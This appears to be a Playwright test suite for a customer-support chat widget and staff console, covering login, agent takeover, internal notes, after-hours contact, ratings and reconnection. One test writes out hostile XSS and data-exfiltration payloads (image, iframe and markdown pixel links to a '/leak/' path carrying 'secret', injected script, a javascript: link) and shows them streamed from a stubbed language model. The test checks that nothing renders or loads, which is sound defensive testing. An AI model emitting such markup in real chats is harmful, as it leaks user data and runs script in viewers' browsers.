"""The staff console in Chromium, with a customer in the widget of another browser context."""

from __future__ import annotations

import http.server
import re
import threading
import uuid
from typing import ClassVar

import httpx
import pytest
from playwright.sync_api import expect

REFUND_Q = "how long do I have to ask for a refund on a yearly plan?"


@pytest.fixture(scope="module")
def agent_name(server):
    name = f"Dana-{uuid.uuid4().hex[:6]}"
    server.add_agent(name, "correct horse battery")
    return name


def log_in(console, url, name, password):
    console.goto(f"{url}/console")
    console.locator("#login-form").get_by_label("Name").fill(name)
    console.locator("#login-form").get_by_label("Password").fill(password)
    console.get_by_role("button", name="Log in").click()


def two_pages(browser):
    """A customer's and an agent's page in separate contexts, page errors collected."""
    customer_ctx, agent_ctx = browser.new_context(), browser.new_context()
    customer, console = customer_ctx.new_page(), agent_ctx.new_page()
    errors: list[str] = []
    for page in (customer, console):
        page.on("pageerror", lambda exc: errors.append(str(exc)))
    return customer_ctx, agent_ctx, customer, console, errors


def open_widget(page, url):
    page.goto(url)
    chat = page.locator("support-chat")
    chat.locator(".launcher").click()
    return chat


def ask_then_hand_over(chat, question):
    """The customer asks, gets an answer, then asks for a person."""
    chat.locator("textarea").fill(question)
    chat.locator("textarea").press("Enter")
    expect(chat.locator(".msg.bot[data-id] .sources")).to_have_count(1, timeout=30_000)
    chat.get_by_role("button", name="Talk to a person").click()
    expect(chat).to_have_attribute("data-state", "queued")


def test_log_in_take_over_reply_note_and_hand_back(server, browser, agent_name):
    customer_ctx, agent_ctx, customer, console, errors = two_pages(browser)
    chat = open_widget(customer, server.url)
    ask_then_hand_over(chat, REFUND_Q)
    # The agent logs in and sees the conversation waiting, with the bot's summary.
    log_in(console, server.url, agent_name, "correct horse battery")
    entry = console.locator("#queue li", has_text=REFUND_Q[:30]).last
    expect(entry).to_contain_text("asked_for_human")
    entry.get_by_role("button", name="Take over").click()
    transcript = console.locator("#transcript")
    expect(transcript.locator(".msg.customer").first).to_contain_text(REFUND_Q)
    expect(transcript.locator(".msg.bot .sources").first).to_be_visible()
    expect(transcript.locator(".decision summary").first).to_contain_text("gate pass")
    expect(chat.locator(".msg.system").last).to_contain_text(f"{agent_name} joined")
    # A reply reaches the customer live; a note never does.
    console.get_by_label("Reply to the customer").fill("Hi! I can help with the refund.")
    console.get_by_role("button", name="Send reply").click()
    expect(chat.locator(".msg.agent")).to_contain_text("I can help with the refund")
    console.get_by_label("Reply to the customer").fill("INTERNAL: check the payment date")
    console.get_by_role("button", name="Add internal note").click()
    expect(transcript.locator(".note")).to_contain_text("INTERNAL")
    chat.locator("textarea").fill("thanks, it was 10 days ago")
    chat.locator("textarea").press("Enter")
    expect(transcript.locator(".msg.customer").last).to_contain_text("10 days ago")
    # After a reload the agent finds the conversation under "Yours" and reopens it.
    console.reload()
    console.locator("#assigned button").first.click()
    expect(transcript.locator(".msg.customer").last).to_contain_text("10 days ago")
    expect(transcript.locator(".note")).to_contain_text("INTERNAL")
    # Hand back to the bot.
    console.get_by_label("Reason for handing back").fill("resolved")
    console.get_by_role("button", name="Hand back to the bot").click()
    expect(chat).to_have_attribute("data-state", "bot")
    expect(chat.locator(".log")).not_to_contain_text("INTERNAL")
    customer_ctx.close()
    agent_ctx.close()
    assert errors == []


def test_a_wrong_password_is_refused(server, browser, agent_name):
    context = browser.new_context()
    console = context.new_page()
    log_in(console, server.url, agent_name, "wrong password")
    expect(console.locator("#status")).to_contain_text("Wrong name or password")
    expect(console.locator("#app")).to_be_hidden()
    context.close()


def test_an_admin_adds_an_agent_who_can_then_log_in(server, browser):
    admin = f"Admin-{uuid.uuid4().hex[:6]}"
    server.add_agent(admin, "admin password", admin=True)
    context = browser.new_context()
    console = context.new_page()
    log_in(console, server.url, admin, "admin password")
    form = console.locator("#add-agent")
    expect(form).to_be_visible()
    newcomer = f"Sam-{uuid.uuid4().hex[:6]}"
    form.get_by_label("Name").fill(newcomer)
    form.get_by_label("Password").fill("sam's password")
    form.get_by_role("button", name="Add agent").click()
    expect(console.locator("#status")).to_contain_text(f"Agent {newcomer} added")
    context.close()
    with httpx.Client() as http:
        login = http.post(
            f"{server.url}/api/agent/login", json={"name": newcomer, "password": "sam's password"}
        )
        assert login.status_code == 200
        token = login.json()["token"]
        refused = http.post(
            f"{server.url}/api/agent/agents",
            json={"name": "x", "password": "12345678"},
            headers={"Authorization": f"Bearer {token}"},
        )
    assert refused.status_code == 403  # an agent is not an admin


def test_agents_do_not_see_the_add_agent_form(server, browser, agent_name):
    context = browser.new_context()
    console = context.new_page()
    log_in(console, server.url, agent_name, "correct horse battery")
    expect(console.locator("#queue")).to_be_visible()
    expect(console.locator("#add-agent")).to_be_hidden()
    context.close()


def test_after_hours_email_presence_rating_and_report(after_hours_server, browser):
    server = after_hours_server
    name = f"Kim-{uuid.uuid4().hex[:6]}"
    server.add_agent(name, "correct horse battery")
    customer_ctx, agent_ctx, customer, console, errors = two_pages(browser)
    chat = open_widget(customer, server.url)
    chat.get_by_role("button", name="Talk to a person").click()
    # Told honestly that nobody is there, when they are back, and asked for an email.
    expect(chat.locator(".msg.bot").last).to_contain_text("away right now")
    expect(chat.locator(".queue")).to_contain_text("in line")
    card = chat.locator("form.card.contact")
    card.get_by_label("Leave your email").fill("kim.customer@example.com")
    card.get_by_role("button", name="Send").click()
    expect(chat.locator(".msg.system").last).to_contain_text("kim.customer@example.com")
    expect(card).to_have_count(0)
    # The agent sees the email with the queue entry, the hours, and the team's presence.
    log_in(console, server.url, name, "correct horse battery")
    entry = console.locator("#queue li", has_text="kim.customer@example.com")
    expect(entry).to_contain_text("Follow up by email")
    expect(console.locator("#hours")).to_contain_text("closed, back")
    expect(console.locator("#team")).to_contain_text(f"{name} · online")
    console.get_by_label("Your status").select_option("away")
    expect(console.locator("#team")).to_contain_text(f"{name} · away")
    entry.get_by_role("button", name="Take over").click()
    expect(chat.locator(".queue")).to_be_hidden()
    expect(chat.locator(".msg.system").last).to_contain_text(f"{name} joined")
    # Closing asks the customer for a rating; the agent sees it; the report counts it.
    console.get_by_role("button", name="Close", exact=True).click()
    rating = chat.locator("form.card.rating")
    rating.get_by_role("radio", name="4 of 5").click()
    rating.get_by_label("Anything to add").fill("Kind and quick")
    rating.get_by_role("button", name="Send rating").click()
    expect(chat.locator(".msg.system").last).to_contain_text("Thanks for rating")
    expect(console.locator("#transcript .event").last).to_contain_text(
        "rated this 4/5: Kind and quick"
    )
    console.get_by_role("button", name="Report").click()
    report = console.locator("#report")
    expect(report.locator(".comments")).to_contain_text("Kind and quick")
    expect(report).to_contain_text("asked_for_human")
    expect(report.locator("tr", has_text="Resolved by an agent")).to_have_text(
        re.compile(r"Resolved by an agent\s*[1-9]\d*$")
    )
    # A reload does not ask for the rating again.
    customer.reload()
    chat.locator(".launcher").click()
    expect(chat.locator(".msg.system").last).to_contain_text("closed")
    expect(chat.locator("form.card.rating")).to_have_count(0)
    customer_ctx.close()
    agent_ctx.close()
    assert errors == []


class _Shop(http.server.BaseHTTPRequestHandler):
    """A customer's site without any CSP of its own; a path it is asked for is
    a leak under ``/leak/`` (an image or frame that some output made the browser fetch)."""

    page = b""
    leaks: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        if self.path == "/":
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(self.page)
            return
        if self.path.startswith("/leak/"):
            self.leaks.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_hostile_output_loads_nothing_and_runs_nothing_in_widget_or_console(
    server, stub, browser, agent_name, host_port
):
    shop = f"http://127.0.0.1:{host_port}"
    _Shop.page = (
        f'<!doctype html><html><body><script src="{server.url}/widget.js" '
        f'data-server="{server.url}" async></script></body></html>'
    ).encode()
    _Shop.leaks = []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", host_port), _Shop)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()

    def hostile(who: str) -> str:
        return (
            f"{who} ![pixel]({shop}/leak/{who}-md.png?q=secret) "
            f'<img src="{shop}/leak/{who}-img.png"> <iframe src="{shop}/leak/{who}-frame">'
            f"</iframe> <script>window.__xss='{who}'</script> [link](javascript:window.__xss=1)"
        )

    # The model streams the exfiltration markup; the gate then withdraws it (the address
    # is in no passage) and the conversation goes to a person.
    stub.script(replies=[{"text": hostile("model") + " [1]"}], tokens_per_second=40)
    customer_ctx, agent_ctx, customer, console, errors = two_pages(browser)
    requests: list[str] = []
    for context in (customer_ctx, agent_ctx):
        context.on("request", lambda r: requests.append(r.url))
    try:
        customer.goto(f"{shop}/")
        chat = customer.locator("support-chat")
        chat.locator(".launcher").click()
        chat.locator("textarea").fill(hostile("customer"))
        chat.locator("textarea").press("Enter")
        expect(chat).to_have_attribute("data-state", "queued", timeout=30_000)
        log_in(console, server.url, agent_name, "correct horse battery")
        entry = console.locator("#queue li", has_text="customer ![pixel]").last
        entry.get_by_role("button", name="Take over").click()
        transcript = console.locator("#transcript")
        expect(transcript.locator(".msg.customer").last).to_contain_text("<script>")
        console.get_by_label("Reply to the customer").fill(hostile("agent"))
        console.get_by_role("button", name="Send reply").click()
        expect(chat.locator(".msg.agent")).to_contain_text("<iframe src=")
        expect(transcript.locator(".msg.agent").last).to_contain_text("<iframe src=")
        for page in (customer, console):
            assert page.evaluate("window.__xss") is None
        # The widget renders links it can vouch for (http/https) but fetches nothing.
        assert chat.locator("img, iframe, script").count() == 0
        assert transcript.locator("img, iframe, script").count() == 0
    finally:
        customer_ctx.close()
        agent_ctx.close()
        httpd.shutdown()
    assert _Shop.leaks == []
    assert not [u for u in requests if "/leak/" in u or u.startswith("javascript:")]
    assert errors == []


def test_a_console_that_reconnects_misses_nothing_and_shows_nothing_twice(
    server, browser, agent_name
):
    """Chatwoot #14934: an agent who reconnects must see what was said meanwhile."""
    customer_ctx, agent_ctx, customer, console, errors = two_pages(browser)
    routes = []

    def through(route):
        route.connect_to_server()
        routes.append(route)

    console.route_web_socket(re.compile(r"/ws/agent$"), through)
    chat = open_widget(customer, server.url)
    first = f"first {uuid.uuid4().hex[:6]}: {REFUND_Q}"
    ask_then_hand_over(chat, first)
    log_in(console, server.url, agent_name, "correct horse battery")
    entry = console.locator("#queue li", has_text=first[:12]).last
    entry.get_by_role("button", name="Take over").click()
    transcript = console.locator("#transcript")
    expect(transcript.locator(".msg.customer")).to_have_count(1)
    routes[-1].close(code=4000, reason="network lost")  # the agent's socket drops
    expect(console.locator("#status")).to_contain_text("Reconnecting")
    # What the agent writes meanwhile waits in the console's outbox.
    console.get_by_label("Reply to the customer").fill("Written while my connection was down.")
    console.get_by_role("button", name="Send reply").click()
    console.get_by_label("Reply to the customer").fill("NOTE: connection flaky")
    console.get_by_role("button", name="Add internal note").click()
    for text in ("second, while the agent is away", "third, while the agent is away"):
        chat.locator("textarea").fill(text)
        chat.locator("textarea").press("Enter")
    expect(chat.locator(".msg.customer[data-id]")).to_have_count(3)
    # The console reconnects by itself and takes its conversation again.
    expect(transcript.locator(".msg.customer")).to_have_text(
        [re.compile("first"), re.compile("second"), re.compile("third")], timeout=15_000
    )
    expect(chat.locator(".msg.agent")).to_have_text(
        [re.compile("Written while my connection was down")], timeout=15_000
    )
    expect(transcript.locator(".note")).to_have_count(1)
    console.get_by_label("Reply to the customer").fill("I'm back, sorry about that.")
    console.get_by_role("button", name="Send reply").click()
    expect(chat.locator(".msg.agent").last).to_contain_text("I'm back")
    expect(chat.locator(".msg.agent")).to_have_count(2)
    expect(transcript.locator(".msg.agent")).to_have_count(2)
    expect(transcript.locator(".note")).to_have_count(1)
    assert len(routes) >= 2  # it did go through a second socket
    customer_ctx.close()
    agent_ctx.close()
    assert errors == []
